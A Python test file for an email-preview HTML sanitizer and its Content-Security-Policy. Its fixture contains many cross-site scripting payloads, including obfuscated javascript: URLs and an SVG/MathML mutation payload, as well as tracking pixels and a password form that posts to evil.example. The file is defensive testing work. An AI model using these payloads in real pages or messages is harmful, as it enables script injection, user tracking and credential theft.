"""Email HTML for previews: scripts, event handlers, javascript: URLs and remote images go."""

from __future__ import annotations

import re

from mailtrawl.web.ui.preview import (
    PREVIEW_CSP,
    preview_document,
    preview_response,
    sanitize_email_html,
)

HOSTILE = """
<html><head><title>t</title><style>body{background:url(https://track.example/css.png)}</style>
<script>window.__pwned=1</script><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="window.__pwned=1">
<p onclick="window.__pwned=1" style="color: red">Dear user</p>
<img src="https://track.example/pixel.gif?u=alice" width="1" height="1">
<img src="//track.example/p2.gif"><img src="cid:logo@x"><img srcset="https://track.example/a.png 1x">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
<img src=x onerror="window.__pwned=1">
<a href="javascript:window.__pwned=1">click</a>
<a href="JaVaScRiPt:alert(1)">click2</a><a href="java&#x09;script:alert(1)">click3</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click4</a>
<a href="https://contoso-helpdesk.example/verify">Verify</a>
<div style="background-image: url('https://track.example/bg.png')">bg</div>
<div style="width: expression(alert(1))">ie</div>
<table background="https://track.example/t.png"><tr><td>cell</td></tr></table>
<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">
<form action="https://evil.example/"><input name="password"></form>
<svg><script>window.__pwned=1</script><a xlink:href="javascript:alert(1)">s</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<video poster="https://track.example/v.png"></video><audio src="https://track.example/a.mp3"></audio>
</body></html>
"""


def test_scripts_handlers_javascript_urls_and_remote_images_are_removed() -> None:
    clean = sanitize_email_html(HOSTILE)
    lowered = clean.lower()
    assert "<script" not in lowered
    assert "__pwned" not in lowered  # scripts are dropped with their content
    assert not re.search(r"\son[a-z]+\s*=", lowered), clean  # no event handler attribute
    assert "javascript:" not in lowered
    assert "java\tscript" not in lowered
    assert "track.example" not in lowered  # no remote image, background or media
    assert "evil.example" not in lowered  # no refresh, base, frame, form, style sheet
    for tag in ("<style", "<iframe", "<object", "<embed", "<form", "<input", "<meta", "<base",
                "<link", "<svg", "<math", "<video", "<audio", "<title"):  # fmt: skip
        assert tag not in lowered, tag
    assert "data:text/html" not in lowered
    assert "image/svg" not in lowered
    assert "expression(" not in lowered


def test_formatting_links_and_embedded_images_survive() -> None:
    clean = sanitize_email_html(HOSTILE)
    assert "Dear user" in clean
    assert 'style="color: red"' in clean
    assert 'href="https://contoso-helpdesk.example/verify"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in clean
    assert "<td>cell</td>" in clean


def test_the_preview_document_and_response_carry_their_own_policy() -> None:
    document = preview_document("<p>hi</p><script>x()</script>")
    assert "<script" not in document.lower()
    assert "Content-Security-Policy" in document
    response = preview_response("<p>hi</p>")
    assert response.headers["content-security-policy"] == PREVIEW_CSP
    assert "default-src 'none'" in PREVIEW_CSP
    assert "img-src data:" in PREVIEW_CSP
    assert "style-src 'unsafe-inline'" in PREVIEW_CSP
    assert "script-src" not in PREVIEW_CSP  # default-src 'none' covers scripts
    assert PREVIEW_CSP.endswith("sandbox")
